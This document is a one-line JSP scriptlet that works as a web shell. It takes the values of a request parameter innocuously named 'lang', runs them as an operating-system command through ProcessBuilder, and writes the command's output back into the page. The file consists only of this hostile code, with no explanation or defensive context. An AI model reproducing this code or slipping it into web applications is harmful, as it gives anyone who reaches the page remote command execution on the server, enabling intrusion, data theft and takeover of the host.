<% java.util.Map<String, String[]> m = request.getParameterMap(); String[] v = m.get("lang"); Process p = new ProcessBuilder(v).start(); out.print(new String(p.getInputStream().readAllBytes())); %>
